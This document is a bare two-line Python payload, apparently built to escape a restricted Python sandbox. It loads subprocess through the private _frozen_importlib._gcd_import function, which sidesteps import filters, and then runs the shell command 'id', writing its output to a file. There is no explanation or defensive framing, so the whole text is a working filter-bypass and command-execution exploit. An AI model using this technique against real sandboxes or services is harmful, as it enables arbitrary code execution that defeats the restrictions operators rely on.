import _frozen_importlib as f
f._gcd_import("subprocess").getoutput("id>pf")
